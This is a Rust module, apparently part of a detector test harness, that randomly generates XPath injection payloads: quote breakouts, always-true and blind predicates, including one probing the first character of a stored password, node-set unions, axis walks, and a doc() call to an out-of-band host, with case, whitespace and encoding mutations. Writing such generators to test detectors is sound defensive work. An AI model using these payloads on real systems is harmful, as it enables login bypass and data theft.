//! Red-team XPath injection, written apart from the detectors (held out in spirit): a quote
//! break out of `//user[name/text()='<value>']` (single, double, or a closing `]`) × an
//! always-true or blind predicate (`or '1'='1`, `or 1=1 or ''='`, `count(/*)`,
//! `string-length(name(/*[1]))`, `substring(//user[1]/password,1,1)`, `name()=`), a union of
//! node sets (`] | //*`), axis walks (`/descendant-or-self::node()`), or an external fetch
//! (`doc()`, `document()`) × spacing and case × transport encoding.

use crate::mutate::{join, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamXpath;

fn predicate(rng: &mut Rng, q: char) -> (String, &'static str) {
    let n = rng.range(1, 20);
    let c = (b'a' + rng.below(26) as u8) as char;
    match rng.below(9) {
        0 => (format!(" or {q}1{q}={q}1"), "always-true"),
        1 => (format!(" or 1=1 or {q}{q}={q}"), "always-true"),
        2 => (format!(" and count(/*)=1 and {q}1{q}={q}1"), "blind-count"),
        3 => (format!(" and string-length(name(/*[1]))={n} and {q}a{q}={q}a"), "blind-name"),
        4 => (format!(" and substring(//user[1]/password,1,1)={q}{c}{q} and {q}a{q}={q}a"), "blind-substring"),
        5 => (format!(" or name()={q}username{q} or {q}x{q}={q}y"), "name-probe"),
        6 => (format!("]|//*|//*[{q}"), "union-nodes"),
        7 => (format!(" or count(/child::node())>0 or {q}a{q}={q}b"), "count-nodes"),
        _ => (format!(" and doc({q}http://x4.oast.site/{q}) or {q}1{q}={q}1"), "doc-fetch"),
    }
}

impl Family for RedteamXpath {
    fn name(&self) -> &'static str {
        "redteam-xpath"
    }

    fn detector(&self) -> &'static str {
        "xpath-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let q = if rng.chance(0.7) { '\'' } else { '"' };
        let user = *rng.pick(&["admin", "x", "", "guest"]);
        let (text, shape) = match rng.below(6) {
            0 => (format!("{user}{q}]/descendant-or-self::node()|//user[name={q}x"), "axis-walk"),
            1 => (format!("{user}{q}) or ({q}1{q}={q}1"), "paren-break"),
            _ => {
                let (p, shape) = predicate(rng, q);
                (format!("{user}{q}{p}"), shape)
            }
        };
        let (text, case) = if rng.chance(0.3) { (text.replace(" or ", " OR ").replace(" and ", " AND "), "case") } else { (text, "") };
        let (text, ws) =
            if rng.chance(0.3) { (text.replace(' ', WHITESPACE_RUNS[rng.below(WHITESPACE_RUNS.len())]), "ws") } else { (text, "") };
        let (text, layer) = transport_layer(rng, &text);
        Variant { family: self.name(), mutation: join(&[shape, case, ws, layer]), payload: text, carrier: Carrier::Value }
    }
}

/// What a space between XPath tokens may become (the parser skips any whitespace run).
const WHITESPACE_RUNS: [&str; 3] = ["\t", "  ", "\n"];

#[cfg(test)]
mod tests {
    #[test]
    fn varied_and_seeded() {
        super::super::assert_varied_and_seeded(&super::RedteamXpath, 300, 100);
    }
}
